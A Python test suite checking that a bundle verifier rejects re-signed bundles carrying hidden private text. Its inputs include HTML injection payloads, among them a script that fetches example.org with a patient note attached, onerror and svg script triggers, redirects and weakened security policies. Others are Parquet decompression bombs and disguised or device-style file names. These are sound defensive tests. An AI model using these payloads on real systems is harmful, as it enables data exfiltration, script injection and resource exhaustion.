"""A key holder hides private text in a bundle and signs everything again; `synthgen verify` refuses each bundle."""

import hashlib
import json
import shutil
import tracemalloc
from datetime import UTC, datetime, timedelta

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from audits.core.instants import stamp
from audits.core.plain_parquet import parquet_bytes
from audits.core.strictjson import canonical
from audits.verify.contents import COLUMNS, JSONL, PARQUET, RECORD_SCHEMA, REPORT_HTML, REPORT_JSON, jsonl_bytes
from synthgen.cli.main import app

NOTE = "Wilhelmina Zebrafink of ward 7 has HIV and came in on foot"
NOTES = "".join(json.dumps({"patient": i, "text": f"{NOTE}, visit {i}"}) + "\n" for i in range(200)).encode()


@pytest.fixture(scope="module")
def place(releases, tmp_path_factory):
    """Return a folder with a bundle of today and its trust root."""
    folder, now = tmp_path_factory.mktemp("signed"), datetime.now(UTC)
    releases.bundle(folder, now=now).rename(folder / "good")
    (folder / "trust.json").write_bytes(releases.root(expires=stamp(now + timedelta(days=9))).to_bytes())
    return folder


@pytest.fixture
def copy(place, tmp_path):
    return shutil.copytree(place / "good", tmp_path / "bundle")


@pytest.fixture
def verify(place):
    """Return a function that runs `synthgen verify`: exit code and output."""

    def run(bundle, trust="trust.json"):
        done = CliRunner().invoke(app, ["verify", str(bundle), "--trust", str(place / trust)])
        assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
        return done.exit_code, done.output

    return run


@pytest.fixture
def refused(verify):
    """Return a function that checks that a bundle is refused with one of these codes, without private text."""

    def check(bundle, *codes):
        code, said = verify(bundle)
        assert code in {10, 12, 15}, said
        assert any(one in said for one in codes), said
        assert said.rstrip().endswith("VERIFICATION FAILED: do not use this bundle"), said
        assert not any(word in said for word in ("Wilhelmina", "Zebrafink", "Traceback"))

    return check


def test_a_bundle_that_is_signed_again_without_a_change_verifies(copy, releases, verify):
    releases.reissue(copy)
    code, said = verify(copy)
    assert (code, said.splitlines()[-1].split()[0]) == (0, "VERIFIED"), said


# --- further files; some names may also harm a person who opens the folder

APPENDICES = ("report/appendix.jsonl", "evidence/notes.json", "data/notes.csv", "provenance/source.json", "notes.txt")
HARMFUL = (
    "CON",
    ".hidden",
    "run me.exe",
    "data/AUX.parquet",
    "nul.json",
    "report/.DS_Store",
    "autorun.inf",
    "README",
)
DISGUISED = ("report/report.htm\u04cf", "README.md\u200b", "evidence/mem\u043erization.json", "policy/policy.json ")


@pytest.mark.parametrize("name", [*APPENDICES, *HARMFUL, *DISGUISED])
def test_a_further_file_is_refused_whatever_its_name(name, copy, releases, refused):
    releases.add_file(copy, name, NOTES)
    refused(copy, "E_EXTRA", "E_UNSAFE", "E_GATE")


def test_a_further_folder_is_refused(copy, releases, refused):
    releases.add_file(copy, "notes/all.jsonl", NOTES)
    refused(copy, "E_EXTRA")


# --- record ids that carry text


def in_pieces(text):
    return lambda i, _: text[16 * (i % (len(text) // 16)) :][:16]


IDS = {
    "hexadecimal text": in_pieces(NOTE.encode().hex()),
    "reversed text": in_pieces(NOTE.encode().hex()[::-1]),
    "text in decimal digits": in_pieces("".join(f"{byte:03d}" for byte in NOTE.encode())),
    "digest of a patient": lambda i, _: hashlib.sha256(f"patient {i}".encode()).hexdigest()[:16],
    "true ids with four free digits": lambda i, row: row["id"][:12] + NOTE.encode().hex()[4 * i :][:4],
    "64 digits": lambda i, row: (row["id"] + NOTE.encode().hex()[i:])[:64],
    "numbers of patients": lambda i, _: f"{4711000000000000 + i}",
    "free text": lambda i, _: f"{NOTE} {i}",
}


@pytest.mark.parametrize("case", IDS)
def test_record_ids_that_carry_text_are_refused(case, copy, releases, refused):
    rows = [json.loads(line) for line in (copy / JSONL).read_text().split("\n")[:-1]]
    changed = sorted((IDS[case](i, row), row["text"], row["label"]) for i, row in enumerate(rows))
    (copy / JSONL).write_bytes(jsonl_bytes(changed))
    columns = zip(COLUMNS, map(list, zip(*changed, strict=True)), strict=True)
    (copy / PARQUET).write_bytes(parquet_bytes(list(columns)))
    releases.reissue(copy)
    refused(copy, "E_DATA")


# --- notes and exact numbers in the results of the audits, in the report and in the schema of the records


def of_json(change):
    def apply(data):
        value = json.loads(data)
        change(value)
        return canonical(value)

    return apply


def before(mark, text):
    """Return a change that inserts a text before the last occurrence of a mark."""

    def apply(data):
        start, found, end = data.rpartition(mark.encode())
        assert found
        return start + text.encode() + found + end

    return apply


def of_details(**details):
    return of_json(lambda value: value["details"].update(details))


MEMORIZATION = "evidence/memorization.json"
RESULTS = {
    "200 notes": of_json(lambda value: value.update(notes=[NOTE] * 200)),
    "notes in the details": of_details(notes=[NOTE]),
    "number of persons": of_details(n_train_persons=337),
    "rows of findings": of_details(rows=[[17, 240, 4711], [18, 9, 4712]]),
    "reason": of_json(lambda value: value.update(reason=NOTE)),
    "exact count": of_json(lambda value: value["metrics"]["memorization.hard_hits"].update(n=337)),
    "digits of a number": of_json(lambda value: value["metrics"]["memorization.hard_hits"].update(high=0.0012345671)),
    "name of a metric": of_json(lambda value: value["metrics"].update({NOTE: {"value": 1}})),
}
SCHEMA = {
    "comment": of_json(lambda value: value.update({"$comment": NOTE})),
    "description": of_json(lambda value: value["properties"]["text"].update(description=NOTE)),
    "examples": of_json(lambda value: value["properties"]["text"].update(examples=[NOTE] * 200)),
    "definition": of_json(lambda value: value.update({"$defs": {"note": {"const": NOTE}}})),
    "pattern": of_json(lambda value: value["properties"]["label"].update(pattern=f"^(?!{NOTE})")),
    "spaces": lambda data: data + b" \t" * 200,
}
PAGE = {
    "script": before("</body>", f"<script>fetch('https://example.org/?{NOTE}')</script>"),
    "script of another host": before("</head>", '<script src="https://example.org/x.js"></script>'),
    "event": before("</body>", f"<img src=x onerror='alert(`{NOTE}`)'>"),
    "script in svg": before("</body>", "<svg onload='alert(1)'></svg>"),
    "redirection": before("</head>", '<meta http-equiv="refresh" content="0;url=https://example.org">'),
    "frame": before("</body>", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "no security policy": lambda data: data.replace(b"Content-Security-Policy", b"X-Nothing", 1),
    "weaker security policy": lambda data: data.replace(b"default-src 'none'", b"default-src *", 1),
    "note": before("</main>", f"<p>{NOTE}</p>"),
    "hidden note": before("</body>", f"<!-- {NOTE} -->"),
    "note in a style": before("</style>", f"/* {NOTE} */"),
}
CHANGES = {
    **{f"results: {case}": (MEMORIZATION, change) for case, change in RESULTS.items()},
    **{f"schema: {case}": (RECORD_SCHEMA, change) for case, change in SCHEMA.items()},
    **{f"page: {case}": (REPORT_HTML, change) for case, change in PAGE.items()},
}


@pytest.mark.parametrize("case", CHANGES)
def test_a_changed_file_is_refused_although_it_is_signed(case, copy, releases, refused):
    name, change = CHANGES[case]
    data = (copy / name).read_bytes()
    (copy / name).write_bytes(change(data))
    assert (copy / name).read_bytes() != data
    releases.reissue(copy)
    refused(copy, f"E_MANIFEST {name}", "E_GATE")


@pytest.mark.parametrize("case", sorted({*RESULTS} - {"digits of a number"}))
def test_the_same_change_in_the_report_is_refused(case, copy, releases, refused):
    """The report repeats the results of the audits; both copies are changed in the same way."""
    report = json.loads((copy / REPORT_JSON).read_bytes())
    (copy / MEMORIZATION).write_bytes(RESULTS[case](canonical(report["audit"]["results"][0])))
    report["audit"]["results"][0] = json.loads((copy / MEMORIZATION).read_bytes())
    (copy / REPORT_JSON).write_bytes(canonical(report))
    releases.reissue(copy)
    refused(copy, "E_GATE")


# --- compressed data that expand


def equal_rows(value, n):
    """Return a column of n equal values, which a file stores once."""
    return pa.DictionaryArray.from_arrays(pa.array([0] * n, pa.int32()), pa.array([value]))


BOMBS = {
    "three dictionaries": (lambda: [equal_rows("a" * (50 << 20), 11)] * 3, {"compression": "zstd"}),
    "one page": (lambda: [pa.array(["a" * (80 << 20), *map(str, range(10))])] * 3, {"compression": "gzip"}),
    "many rows": (lambda: [equal_rows("a" * 1000, 3_000_000)] * 3, {"compression": "zstd"}),
    "many row groups": (lambda: [equal_rows("a" * (1 << 20), 11)] * 3, {"compression": "zstd", "row_group_size": 1}),
    "brotli": (lambda: [equal_rows("a" * (50 << 20), 11)] * 3, {"compression": "brotli"}),
}


@pytest.mark.parametrize("case", BOMBS)
def test_signed_data_that_expand_are_refused_in_bounded_memory(case, copy, releases, refused):
    make, options = BOMBS[case]
    pq.write_table(pa.table(make(), names=COLUMNS), copy / PARQUET, **options)
    assert (copy / PARQUET).stat().st_size < 1 << 20
    releases.reissue(copy)
    allocated = pa.default_memory_pool().bytes_allocated()
    tracemalloc.start()
    try:
        refused(copy, "E_DATA")
        assert tracemalloc.get_traced_memory()[1] < 64 << 20
    finally:
        tracemalloc.stop()
    assert pa.default_memory_pool().bytes_allocated() <= allocated


def test_more_rows_than_the_statement_allows_are_refused(copy, releases, refused):
    """The statement is refused too if it claims so many records."""
    columns = [equal_rows("a", 3_000_000)] * 3
    pq.write_table(pa.table(columns, names=COLUMNS), copy / PARQUET, compression="zstd")
    releases.reissue(copy, (), lambda value: value["predicate"]["dataset"].update(records=3_000_000))
    refused(copy, "E_GATE", "E_DATA", "E_PREDICATE")
